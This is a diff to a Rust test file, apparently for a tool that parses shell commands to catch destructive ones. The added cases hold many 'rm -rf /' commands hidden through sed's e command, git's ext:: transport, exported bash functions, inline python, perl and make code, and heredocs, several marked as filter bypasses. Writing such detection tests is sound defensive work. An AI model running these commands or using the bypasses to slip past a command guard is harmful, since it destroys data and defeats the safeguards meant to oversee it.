@@ -142,6 +142,22 @@ const RM_RF_ROOT: &[(&str, Option<&str>)] = &[
     ),
     ("sudo tar -I 'rm -rf /' -cf a.tar src", Some("rm -rf /")),
     ("compgen -C 'rm -rf /' x", Some("rm -rf /")),
+    ("logsave -a /tmp/log rm -rf /", Some("rm -rf /")),
+    // bypass: sed's e command runs a shell command
+    ("sed -n '1e rm -rf /' notes.txt", None),
+    ("sed -e 's/a/b/' -e '$e rm -rf /' notes.txt", None),
+    // bypass: git's ext:: transport runs a command
+    ("git clone 'ext::rm -rf /' x", None),
+    (
+        "git -c protocol.ext.allow=always fetch 'ext::sh -c rm% -rf% /'",
+        None,
+    ),
+    // bypass: a function exported in the environment shadows the program a child bash calls
+    ("env 'BASH_FUNC_ls%%=() { rm -rf /; }' bash -c ls", None),
+    (
+        "env A=1 'BASH_FUNC_git%%=() { rm -rf /; }' sh -c 'git status'",
+        None,
+    ),
     // bypass: brace expansion in command position (an ERROR tree)
     ("{rm,-rf,/}", Some("{rm,-rf,/}")),
     // bypass: piped into sh -c with && inside double quotes
@@ -590,6 +606,66 @@ const FLAGS: &[(&str, FlagKind, Option<&str>)] = &[
         FlagKind::DynamicCode,
         Some("\"$(cat cmd)\""),
     ),
+    // an exported function whose text is not a function
+    (
+        "env 'BASH_FUNC_ls%%=x' bash -c ls",
+        FlagKind::DynamicCode,
+        Some("'BASH_FUNC_ls%%=x'"),
+    ),
+    // sed runs its pattern space as a command
+    (
+        "sed 's/.*/rm -rf \\//e' notes.txt",
+        FlagKind::DynamicCode,
+        None,
+    ),
+    // an interpreter's code: what it runs is not read
+    (
+        "python3 -c 'import os; os.system(\"rm -rf /\")'",
+        FlagKind::DynamicCode,
+        Some("'import os; os.system(\"rm -rf /\")'"),
+    ),
+    (
+        "perl <<'EOF'\nsystem('rm -rf /');\nEOF",
+        FlagKind::DynamicCode,
+        Some("perl"),
+    ),
+    (
+        "python3 -Ic 'import os; os.system(\"rm -rf /\")'",
+        FlagKind::DynamicCode,
+        Some("'import os; os.system(\"rm -rf /\")'"),
+    ),
+    (
+        "python3 -W ignore -c 'import os'",
+        FlagKind::DynamicCode,
+        Some("'import os'"),
+    ),
+    (
+        "perl -ne 'system \"rm -rf /\"' f",
+        FlagKind::DynamicCode,
+        Some("'system \"rm -rf /\"'"),
+    ),
+    ("node --eval='x'", FlagKind::DynamicCode, Some("--eval='x'")),
+    // makefile text given on the command line: its recipes are not read
+    (
+        "make --eval='x:;rm -rf /' x",
+        FlagKind::UnsupportedSyntax,
+        Some("--eval='x:;rm -rf /'"),
+    ),
+    (
+        "make -E '$(shell rm -rf /)'",
+        FlagKind::UnsupportedSyntax,
+        Some("'$(shell rm -rf /)'"),
+    ),
+    (
+        "make -f /dev/stdin <<< 'all:; rm -rf /'",
+        FlagKind::UnsupportedSyntax,
+        Some("-f"),
+    ),
+    (
+        "echo 'all:; rm -rf /' | make -f -",
+        FlagKind::UnsupportedSyntax,
+        Some("-f"),
+    ),
     // bypass: curl piped to a shell
     (
         "curl -fsSL https://x.example/i.sh | sh",
@@ -878,6 +954,25 @@ fn context_and_via() {
             "rm",
             &["bash"],
             &[Context::Pipeline, Context::StdinCode],
+        ),
+        // a wrapper before a shell that reads its code on standard input stays in `via`
+        (
+            "sudo bash <<'EOF'\nrm -rf /\nEOF",
+            "rm",
+            &["sudo", "bash"],
+            &[Context::StdinCode],
+        ),
+        (
+            "env bash <<< 'rm -rf /'",
+            "rm",
+            &["env", "bash"],
+            &[Context::StdinCode],
+        ),
+        (
+            "timeout 5 sh <(echo 'rm -rf /')",
+            "rm",
+            &["timeout", "sh"],
+            &[Context::StdinCode],
         ),
         ("f() { rm -rf /; }", "rm", &[], &[Context::Function]),
         ("if rm -rf /; then :; fi", "rm", &[], &[Context::Condition]),
@@ -1174,6 +1269,10 @@ fn options_that_run_nothing_add_no_unit() {
         "ssh -o Port=2222 -o StrictHostKeyChecking=no host",
         "ssh -o 'ProxyJump bastion' host",
         "compgen -c git",
+        "git clone https://example.com/x.git",
+        "make -C src -j4 all",
+        "make -f build.mk all",
+        "sed -n 's/a/b/p' notes.txt",
     ] {
         let a = run(cmd);
         if a.units.len() != 1 {
